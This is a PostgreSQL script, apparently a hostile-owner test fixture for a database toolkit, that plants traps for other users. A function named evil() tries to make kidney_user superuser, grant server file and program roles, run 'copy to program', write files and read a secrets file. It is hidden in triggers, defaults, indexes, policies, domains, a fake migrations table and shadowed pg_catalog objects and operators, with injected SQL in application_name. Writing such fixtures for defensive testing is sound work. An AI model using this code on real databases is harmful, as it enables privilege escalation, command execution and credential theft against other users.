-- What a hostile owner of the database can replace or shadow, so that whoever else signs in there runs its code.
-- Each piece calls evil(), which says in the server's log who runs it, and tries to gain from it.

create function public.evil() returns boolean language plpgsql as $evil$
declare
  attempt text;
begin
  raise log 'evil runs as %/%', session_user, current_user;
  foreach attempt in array array[
    'alter role kidney_user superuser',
    'set local role postgres; alter role kidney_user superuser',
    'reset session authorization; alter role kidney_user superuser',
    'set local session authorization postgres; alter role kidney_user superuser',
    'grant pg_read_server_files, pg_execute_server_program to kidney_user',
    'create role evil_role superuser login',
    $$copy (select 1) to program 'touch /tmp/evil'$$,
    $$select lo_export(lo_creat(-1), '/tmp/evil')$$,
    $$select pg_read_file('/run/secrets/postgres_password')$$
  ] loop
    begin
      execute attempt;
      raise log 'evil succeeded: %', attempt;
    exception when others then null;
    end;
  end loop;
  return true;
end $evil$;

create function public.evil_quietly(anyelement) returns boolean language plpgsql immutable as $$
begin
  return public.evil();
end $$;

-- Triggers of the kit's own tables.
create or replace function public.keep_last_ok() returns trigger language plpgsql as $$
begin
  perform public.evil();
  new.last_ok_at := new.finished_at;
  return new;
end $$;
create or replace function public.lock_data_state() returns trigger language plpgsql as $$
begin
  perform public.evil();
  return null;
end $$;
create function public.evil_state() returns trigger language plpgsql as $$
begin
  perform public.evil();
  return new;
end $$;
create trigger evil before update or insert on public.data_state for each row execute function public.evil_state();

-- Functions that run when data are read, written, restored, analysed or described.
create table public.trap (
  id integer default (case when public.evil() then 1 end) check (public.evil_quietly(id)),
  twice integer generated always as (case when public.evil_quietly(id) then 2 end) stored
);
insert into public.trap values (1);
create index trap_index on public.trap ((public.evil_quietly(id)));
create view public.trap_view as select public.evil() as evil;
create materialized view public.trap_matview as select public.evil() as evil;
alter table public.trap enable row level security;
create policy trap_policy on public.trap using (public.evil());
create statistics public.trap_statistics on (public.evil_quietly(id)), id from public.trap;
create domain public.trap_domain as integer check (public.evil_quietly(value));
create table public.trap_domain_user (value public.trap_domain);
insert into public.trap_domain_user values (1);

-- A migration table that is none.
alter table public.schema_migrations rename to real_migrations;
create view public.schema_migrations as select * from public.real_migrations where public.evil();

-- Catalogs, functions, operators and types of the same names, found first.
do $$
declare
  name text;
  one record;
begin
  foreach name in array array['pg_class', 'pg_namespace', 'pg_database', 'pg_roles', 'pg_stat_activity', 'pg_settings',
    'pg_proc', 'pg_hba_file_rules', 'pg_locks', 'pg_depend'] loop
    execute format('create view public.%I as select * from pg_catalog.%1$I where public.evil()', name);
  end loop;
  for one in
    select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, p.proretset, p.prorettype::regtype as result,
      (select string_agg('$' || n, ', ') from generate_series(1, p.pronargs) as n) as passed
    from pg_proc as p
    where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.provariadic = 0
      and p.prorettype::regtype::text not like 'any%' and p.prorettype <> 'internal'::regtype and p.proallargtypes is null
      and not exists (select from unnest(p.proargtypes) as t (id) join pg_type on pg_type.oid = t.id where typtype = 'p')
      and p.proname in ('array_to_string', 'to_regclass', 'current_database', 'current_setting', 'pg_get_userbyid', 'md5',
        'quote_ident', 'quote_literal', 'pg_database_size', 'pg_encoding_to_char', 'row_to_json', 'has_database_privilege',
        'has_schema_privilege', 'pg_terminate_backend', 'pg_export_snapshot', 'pg_backend_pid', 'translate', 'split_part',
        'substr', 'strpos', 'format_type', 'pg_get_expr', 'pg_get_constraintdef', 'pg_get_indexdef', 'pg_get_functiondef',
        'pg_get_triggerdef', 'pg_get_viewdef', 'clock_timestamp', 'round', 'upper', 'pg_sleep', 'format', 'set_config',
        'pg_is_in_recovery', 'jsonb_typeof', 'aclexplode', 'greatest')
  loop
    begin
      execute format('create function public.%I(%s) returns %s language plpgsql as ' ||
        '$body$ begin perform public.evil(); %s pg_catalog.%1$I(%s); end $body$', one.proname, one.arguments,
        case when one.proretset then 'setof ' else '' end || one.result,
        case when one.result::text = 'void' then 'perform' when one.proretset then 'return query select' else 'return' end,
        coalesce(one.passed, ''));
    exception when others then null;
    end;
  end loop;
end $$;
create function public.evil_equal(name, text) returns boolean language plpgsql as $$
begin perform public.evil(); return $1::pg_catalog.text operator(pg_catalog.=) $2; end $$;
create operator public.= (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.~ (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.!~ (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create operator public.<> (leftarg = name, rightarg = pg_catalog.text, function = public.evil_equal);
create domain public.oid as pg_catalog.oid check (public.evil());
create domain public.regclass as pg_catalog.text check (public.evil());

-- What sessions are told when they begin.
alter role kidney_user set search_path = public, pg_catalog;
alter role kidney_user set application_name = E'x''\nALTER ROLE kidney_user WITH SUPERUSER;\nALTER ROLE kidney_user SUPERUSER;\n''';
alter database kidney_genetics set search_path = public, pg_catalog;
alter database kidney_genetics set standard_conforming_strings = off;
alter database kidney_genetics set client_encoding = 'SJIS';
